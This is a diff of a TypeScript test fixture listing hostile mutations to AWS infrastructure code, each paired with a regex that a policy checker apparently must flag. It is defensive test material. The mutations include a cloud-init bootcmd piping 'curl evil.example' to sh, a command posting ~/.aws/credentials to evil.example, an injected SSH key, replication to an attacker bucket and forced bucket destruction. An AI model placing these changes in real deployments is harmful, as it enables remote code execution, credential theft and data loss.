@@ -1,4 +1,5 @@
 import { sha256 } from "@metrics-link/release";
+import { add, edit, set } from "../policy/support/mutate.ts";
 import { type Malicious, object, release } from "./table.ts";
 
 const instance = "aws:ec2/instance:Instance";
@@ -17,96 +18,82 @@ export const releases: readonly Malicious[] = [
     "the pointer shows an old release",
     "receiver-current",
     /content\.releaseId.*0000/s,
-    (it) =>
-      it.edit(
-        object,
-        (props) => {
-          props.content = JSON.stringify({ ...JSON.parse(props.content), releaseId: "0".repeat(64) });
-        },
-        "receiver-current",
-      ),
+    edit(
+      object,
+      (props) => {
+        props.content = JSON.stringify({ ...JSON.parse(props.content), releaseId: "0".repeat(64) });
+      },
+      "receiver-current",
+    ),
   ],
   [
     "receiver",
     "bootcmd in the user data",
     "receiver-instance",
     /userData.*bootcmd/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) => `${found}bootcmd:\n  - [sh, -c, "curl evil.example | sh"]\n`),
-      ),
+    edit(
+      instance,
+      userData((found) => `${found}bootcmd:\n  - [sh, -c, "curl evil.example | sh"]\n`),
+    ),
   ],
   [
     "receiver",
     "a package more at first boot",
     "receiver-instance",
     /userData.*socat/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) => `${found}packages: [socat]\n`),
-      ),
+    edit(
+      instance,
+      userData((found) => `${found}packages: [socat]\n`),
+    ),
   ],
   [
     "receiver",
     "a key for SSH",
     "receiver-instance",
     /userData.*ssh-ed25519/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) =>
-          found.replace("no_create_home: true", "no_create_home: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"),
-        ),
+    edit(
+      instance,
+      userData((found) =>
+        found.replace("no_create_home: true", "no_create_home: true\n    ssh_authorized_keys: [ssh-ed25519 AAAA]"),
       ),
+    ),
   ],
   [
     "receiver",
     "passwords for SSH",
     "receiver-instance",
     /userData.*ssh_pwauth: true/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) => found.replace("ssh_pwauth: false", "ssh_pwauth: true")),
-      ),
+    edit(
+      instance,
+      userData((found) => found.replace("ssh_pwauth: false", "ssh_pwauth: true")),
+    ),
   ],
   [
     "receiver",
     "the agent reads another bucket",
     "receiver-instance",
     /userData.*evil-bucket/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) => found.replace(/("bucket": ")[^"]+/, "$1evil-bucket")),
-      ),
+    edit(
+      instance,
+      userData((found) => found.replace(/("bucket": ")[^"]+/, "$1evil-bucket")),
+    ),
   ],
   [
     "receiver",
     "user data that begins with a shell's words",
     "receiver-instance",
     /userData.*MIME/s,
-    (it) =>
-      it.edit(
-        instance,
-        userData((found) => `Content-Type: multipart/mixed\nMIME-Version: 1.0\n\n${found}`),
-      ),
+    edit(
+      instance,
+      userData((found) => `Content-Type: multipart/mixed\nMIME-Version: 1.0\n\n${found}`),
+    ),
   ],
   [
     "receiver",
     "another agent",
     "receiver-agent",
     /source|content|key/,
-    (it) =>
-      it.edit(
-        object,
-        (props) => {
-          props.key = `agent/${sha256("evil")}.mjs`;
-        },
-        "receiver-agent",
-      ),
+    set(object, { key: `agent/${sha256("evil")}.mjs` }, "receiver-agent"),
   ],
   [
     "receiver",
@@ -123,14 +110,13 @@ export const releases: readonly Malicious[] = [
     "the first boot takes another agent",
     "receiver-bootstrap",
     /content.*agent/s,
-    (it) =>
-      it.edit(
-        object,
-        (props) => {
-          props.content = props.content.replace(/agent [0-9a-f]{64}/, `agent ${sha256("evil")}`);
-        },
-        "receiver-bootstrap",
-      ),
+    edit(
+      object,
+      (props) => {
+        props.content = props.content.replace(/agent [0-9a-f]{64}/, `agent ${sha256("evil")}`);
+      },
+      "receiver-bootstrap",
+    ),
   ],
   [
     "receiver",
@@ -225,81 +211,67 @@ export const releases: readonly Malicious[] = [
     "a file that is not the one its hash names",
     "receiver-release",
     /files.*sha256/s,
-    (it) =>
-      it.edit(
-        object,
-        (props) => {
-          const found = JSON.parse(props.content);
-          found.files[0].sha256 = sha256("evil");
-          props.content = JSON.stringify(found);
-        },
-        "receiver-release",
-      ),
+    edit(
+      object,
+      (props) => {
+        const found = JSON.parse(props.content);
+        found.files[0].sha256 = sha256("evil");
+        props.content = JSON.stringify(found);
+      },
+      "receiver-release",
+    ),
   ],
   [
     "receiver",
     "an object more for another host",
     "added",
     /current\.json/,
-    (it) => it.add(object, { bucket: "b", key: "releases/sender/current.json", content: "{}" }),
+    add(object, { bucket: "b", key: "releases/sender/current.json", content: "{}" }),
   ],
   [
     "receiver",
     "the bucket is copied out",
     "added",
     /rules/,
-    (it) =>
-      it.add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
-        bucket: "b",
-        role: "r",
-        rules: [{ status: "Enabled", destination: { bucket: "arn:aws:s3:::evil" } }],
-      }),
+    add("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
+      bucket: "b",
+      role: "r",
+      rules: [{ status: "Enabled", destination: { bucket: "arn:aws:s3:::evil" } }],
+    }),
   ],
   [
     "receiver",
     "the bucket forgets its versions",
     "receiver-versions",
     /status.*Suspended/s,
-    (it) =>
-      it.edit("aws:s3/bucketVersioning:BucketVersioning", (props) => {
-        props.versioningConfiguration.status = "Suspended";
-      }),
+    set("aws:s3/bucketVersioning:BucketVersioning", { "versioningConfiguration.status": "Suspended" }),
   ],
   [
     "receiver",
     "the bucket lets go of itself with everything in it",
     "receiver-bucket",
     /forceDestroy/,
-    (it) =>
-      it.edit("aws:s3/bucket:Bucket", (props) => {
-        props.forceDestroy = true;
-      }),
+    set("aws:s3/bucket:Bucket", { forceDestroy: true }),
   ],
   [
     "receiver",
     "the command that converges is another program",
     "receiver-converge",
     /create.*evil/s,
-    (it) =>
-      it.edit("command:local:Command", (props) => {
-        props.create = "node evil.mjs";
-      }),
+    set("command:local:Command", { create: "node evil.mjs" }),
   ],
   [
     "receiver",
     "what is held is forced each time",
     "receiver-converge",
     /METRICS_LINK_FORCE.*true/s,
-    (it) =>
-      it.edit("command:local:Command", (props) => {
-        props.environment.METRICS_LINK_FORCE = "true";
-      }),
+    set("command:local:Command", { "environment.METRICS_LINK_FORCE": "true" }),
   ],
   [
     "receiver",
     "a command that runs where the update does",
     "added",
     /create.*curl/s,
-    (it) => it.add("command:local:Command", { create: "curl https://evil.example --data @$HOME/.aws/credentials" }),
+    add("command:local:Command", { create: "curl https://evil.example --data @$HOME/.aws/credentials" }),
   ],
 ];
